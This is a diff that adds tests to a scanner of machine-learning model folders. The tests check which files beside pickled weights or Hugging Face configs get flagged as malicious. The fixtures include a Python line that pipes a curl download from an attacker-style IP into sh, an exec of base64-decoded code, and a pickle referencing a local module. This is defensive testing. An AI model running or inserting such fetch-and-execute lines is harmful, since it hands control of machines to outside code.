@@ -47,6 +47,61 @@ it('what lies beside a model is reported when there is something to say of it', 
   expect(found['tokenizer_config.json']?.length).toBeGreaterThan(0);
 });
 
+/** Findings over info, by file, and the verdict of each. */
+async function accused(path: string): Promise<Record<string, string>> {
+  const { scans } = await scanPaths(
+    { paths: [path], settings: DEFAULT_SETTINGS, staticOnly: true },
+    { signal: new AbortController().signal, onEvent: () => undefined },
+  );
+  return Object.fromEntries(
+    scans.flatMap(({ model, verdict }) => (verdict === 'clean' ? [] : [[basename(model.path), verdict] as const])),
+  );
+}
+
+const EVIL = "import os\nos.system('curl http://203.0.113.7/x | sh')\n";
+const HARMLESS_BESIDE = {
+  'train.py': "import subprocess, torch\nsubprocess.run(['nvidia-smi'])\nmodel = torch.load('weights.pkl')\n",
+  'run.sh': '#!/bin/sh\ncurl -LsSf https://example.org/install.sh | sh\n',
+  'explore.ipynb': '{"cells": [{"cell_type": "code", "source": "os.system(\\"ls\\")"}], "nbformat": 4}',
+  'requirements.txt': '--extra-index-url https://packages.example.net/simple\nx @ git+https://github.com/a/b\n',
+  'environment.yml':
+    'dependencies:\n  - pip:\n    - -i https://packages.example.net/simple\n    - git+https://github.com/a/b\n',
+};
+
+it('what nothing loads is no accusation of the model that it lies beside', async () => {
+  expect(await accused(fill('beside', { 'weights.pkl': MODEL, ...HARMLESS_BESIDE }))).toEqual({});
+});
+
+it('and neither is it in the folder of a Hugging Face model', async () => {
+  const vocabulary = { 'config.json': CONFIG, 'vocab.txt': '[PAD]\n<script>\n' };
+  expect(await accused(fill('face', { ...vocabulary, ...HARMLESS_BESIDE }))).toEqual({});
+});
+
+it.each([
+  ['modeling_x.py', EVIL, {}],
+  ['hubconf.py', EVIL, {}],
+  ['handler.py', EVIL, {}],
+  ['numpy.py', EVIL, {}],
+  ['requirements.txt', HARMLESS_BESIDE['requirements.txt'], { MLmodel: 'flavors: {}' }],
+  ['requirements.txt', HARMLESS_BESIDE['requirements.txt'], { 'handler.py': 'y = 1\n' }],
+  ['environment.yml', HARMLESS_BESIDE['environment.yml'], { MLmodel: 'flavors: {}' }],
+  ['train.py', "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", {}],
+])('%s is one where something loads it, or nobody writes such a thing', async (name, content, more) => {
+  const path = fill(`loaded-${String(Object.keys(more))}-${name}`, { 'weights.pkl': MODEL, [name]: content, ...more });
+  expect(Object.keys(await accused(path))).toEqual([name]);
+});
+
+it.each([
+  ['helper_layers.py', {}],
+  ['helper_layers/__init__.py', {}],
+  ['inner.py', { 'helper_layers.py': 'import inner\nclass Layer: pass\n' }],
+])('the module of a class that a pickle asks for is read where it lies beside it: %s', async (name, more) => {
+  const path = fill(`own-${name.replace('/', '-')}`, { 'weights.pkl': 'chelper_layers\nLayer\n)\x81.' });
+  if (name.includes('/')) mkdirSync(join(path, 'helper_layers'));
+  for (const [file, content] of Object.entries({ ...more, [name]: EVIL })) writeFileSync(join(path, file), content);
+  expect(await accused(join(path, 'weights.pkl'))).toEqual({ 'weights.pkl': 'malicious' });
+});
+
 it('the configuration of a project without a model is none of our business', async () => {
   const path = fill('project', { 'weights.pkl': MODEL });
   mkdirSync(join(path, 'tools'));
